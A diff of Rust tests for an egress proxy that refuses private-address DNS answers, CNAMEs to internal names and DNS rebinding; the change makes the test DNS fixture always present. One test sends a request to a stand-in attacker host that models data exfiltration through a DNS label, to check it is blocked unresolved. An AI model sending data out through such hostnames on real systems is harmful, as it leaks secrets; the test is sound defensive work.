@@ -15,11 +15,11 @@ const DENIED: [&str; 28] = [
 ];
 
 async fn dns_fixture() -> Fixture {
-    Fixture::start_with("", |b| b.with_dns()).await
+    Fixture::start("").await
 }
 
 fn set(f: &Fixture, name: &str, addrs: &[IpAddr], ttl: u32) {
-    let dns = f.edge.dns.as_ref().unwrap();
+    let dns = &f.edge.dns;
     let v4: Vec<Ipv4Addr> = addrs.iter().filter_map(|a| match a { IpAddr::V4(v) => Some(*v), _ => None }).collect();
     let v6: Vec<Ipv6Addr> = addrs.iter().filter_map(|a| match a { IpAddr::V6(v) => Some(*v), _ => None }).collect();
     dns.set_a(name, &v4, ttl);
@@ -67,7 +67,7 @@ async fn mixed_public_and_private_answers_are_refused_as_a_whole() {
 async fn a_cname_to_a_private_name_is_refused() {
     let f = dns_fixture().await;
     let t = f.edge.token("web", "s-cname");
-    let dns = f.edge.dns.as_ref().unwrap();
+    let dns = &f.edge.dns;
     dns.set_a("internal.corp.example", &["10.20.0.15".parse().unwrap()], 60);
     dns.set_cname("alias.wild.test", "internal.corp.example", 60);
     let r = raw::send(f.addr(), &connect("alias.wild.test:443", &t)).await.unwrap();
@@ -82,8 +82,8 @@ async fn a_ttl0_name_rebinding_to_a_private_address_is_caught_on_the_next_reques
         "apiVersion: trust-edge/v1\nkind: EgressProfile\nmetadata: {{name: web}}\nspec:\n  destinations:\n    - host: rebind.test\n      ports: [{}]\n      addresses: [127.0.0.1]\n      rung: pass-through\n",
         origin.port()
     );
-    let edge = testkit::edge().policy("p.yaml", &policy).with_dns().start().await;
-    let dns = edge.dns.as_ref().unwrap();
+    let edge = testkit::edge().policy("p.yaml", &policy).start().await;
+    let dns = &edge.dns;
     let t = edge.token("web", "s-rebind");
     let url = format!("http://rebind.test:{}/", origin.port());
     dns.set_a("rebind.test", &["127.0.0.1".parse().unwrap()], 0);
@@ -102,7 +102,7 @@ async fn names_the_profile_refuses_are_never_resolved_and_failures_are_502() {
     let t = f.edge.token("web", "s-leak");
     let r = raw::send(f.addr(), &get("http://exfil-data-in-a-label.attacker.example/", &t)).await.unwrap();
     assert_eq!(r.deny_reason(), Some("destination_not_allowed"));
-    assert_eq!(f.edge.dns.as_ref().unwrap().query_count("exfil-data-in-a-label.attacker.example"), 0);
+    assert_eq!(f.edge.dns.query_count("exfil-data-in-a-label.attacker.example"), 0);
     let missing = raw::send(f.addr(), &connect("nxdomain.wild.test:443", &t)).await.unwrap();
     assert_eq!((missing.status, missing.deny_reason()), (502, Some("resolution_failed")));
 }
